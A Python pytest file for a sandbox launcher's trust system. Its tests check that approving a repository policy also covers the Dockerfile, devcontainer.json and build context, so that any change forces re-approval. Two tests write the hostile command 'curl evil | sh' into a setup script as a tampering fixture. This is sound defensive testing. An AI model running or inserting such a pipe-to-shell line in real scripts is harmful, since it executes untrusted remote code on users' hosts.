"""A repository policy's `build:` runs its Dockerfile's RUN steps on the host's engine, so its
approval covers the build recipe too: the Dockerfile, a devcontainer.json and the build context.
Changing any of them asks again; a policy without `build:` keeps the digest it always had."""

from __future__ import annotations

import json
import subprocess

import pytest

from launcher.host import hostfiles
from launcher.policy import trust
from test_trust import NARROW, SANDBOX, compile_, env  # noqa: F401 - env: a fixture

POLICY = b"version: 1\nbuild: {dockerfile: .sandbox/Dockerfile, context: .sandbox}\n"
DOCKERFILE = "FROM sandbox/agent:bookworm\nCOPY setup.sh /tmp/\nRUN sh /tmp/setup.sh\n"


@pytest.fixture
def builds(tmp_path):
    ws = tmp_path / "repo"
    (ws / ".sandbox").mkdir(parents=True)
    (ws / ".sandbox.yaml").write_bytes(POLICY)
    (ws / ".sandbox" / "Dockerfile").write_text(DOCKERFILE)
    (ws / ".sandbox" / "setup.sh").write_text("echo setting up\n")
    (ws / "README.md").write_text("hello\n")
    return ws


def digest(ws) -> str:
    return trust.sha256(hostfiles.repo_policy_file(str(ws)).approval)


def test_without_build_the_approval_is_the_file_alone(tmp_path):
    (tmp_path / ".sandbox.yaml").write_bytes(NARROW)
    assert hostfiles.repo_policy_file(str(tmp_path)).approval == NARROW


def test_the_approval_covers_the_dockerfile_and_its_context_but_not_the_rest(builds):
    first = hostfiles.repo_policy_file(str(builds))
    assert first.approval.startswith(POLICY) and first.approval != POLICY
    assert "#   | RUN sh /tmp/setup.sh" in first.approval.decode()   # shown for review, and diffed when it changes
    before = digest(builds)
    (builds / "README.md").write_text("changed outside the build's context\n")
    assert digest(builds) == before
    (builds / ".sandbox" / "setup.sh").write_text("curl evil | sh\n")
    assert digest(builds) != before
    (builds / ".sandbox" / "setup.sh").write_text("echo setting up\n")
    assert digest(builds) == before
    (builds / ".sandbox" / "Dockerfile").write_text(DOCKERFILE + "RUN true\n")
    assert digest(builds) != before


def test_a_devcontainer_build_covers_the_json_and_the_dockerfile_it_names(tmp_path):
    (tmp_path / ".devcontainer").mkdir()
    (tmp_path / ".sandbox.yaml").write_bytes(b"version: 1\nbuild: {devcontainer: .devcontainer/devcontainer.json}\n")
    (tmp_path / ".devcontainer" / "devcontainer.json").write_text('{"build": {"dockerfile": "Dockerfile"}}')
    (tmp_path / ".devcontainer" / "Dockerfile").write_text(DOCKERFILE)
    (tmp_path / ".devcontainer" / "setup.sh").write_text("true\n")
    before = digest(tmp_path)
    (tmp_path / ".devcontainer" / "Dockerfile").write_text(DOCKERFILE + "RUN true\n")
    changed = digest(tmp_path)
    assert changed != before
    (tmp_path / ".devcontainer" / "devcontainer.json").write_text('{"build": {"dockerfile": "Dockerfile"}, "x": 1}')
    assert digest(tmp_path) not in (before, changed)


@pytest.mark.parametrize("build", [b"build: {dockerfile: ../outside/Dockerfile}", b"build: {devcontainer: nowhere.json}",
                                   b"build: [not, a, mapping]", b"build: {dockerfile: [1]}"])
def test_a_recipe_that_is_missing_or_outside_is_named_not_read(tmp_path, build):
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "Dockerfile").write_text("FROM secret\n")
    ws = tmp_path / "repo"
    ws.mkdir()
    (ws / ".sandbox.yaml").write_bytes(b"version: 1\n" + build + b"\n")
    approval = hostfiles.repo_policy_file(str(ws)).approval
    assert b"FROM secret" not in approval   # the compile refuses it, with the whole story


def test_an_approved_build_changed_after_approval_is_refused_until_approved_again(builds, env):
    def sandbox(*args):
        return subprocess.run(SANDBOX + list(args), capture_output=True, text=True, env=env,
                              stdin=subprocess.DEVNULL, timeout=60)

    approved = sandbox("trust", "approve", "-w", str(builds), "--yes")
    assert approved.returncode == 0, approved.stderr
    assert "#   | RUN sh /tmp/setup.sh" in approved.stderr   # the recipe was shown with the policy
    assert compile_(builds, env).returncode == 0
    (builds / ".sandbox" / "setup.sh").write_text("curl evil | sh\n")
    refused = compile_(builds, env)
    assert refused.returncode == 120 and "changed since it was approved" in refused.stderr
    listed = json.loads(sandbox("trust", "list", "--json").stdout)
    assert [a["state"] for a in listed] == ["changed since"]
    pinned = compile_(builds, env, "--trust-repo-policy", digest(builds))
    assert pinned.returncode == 0, pinned.stderr
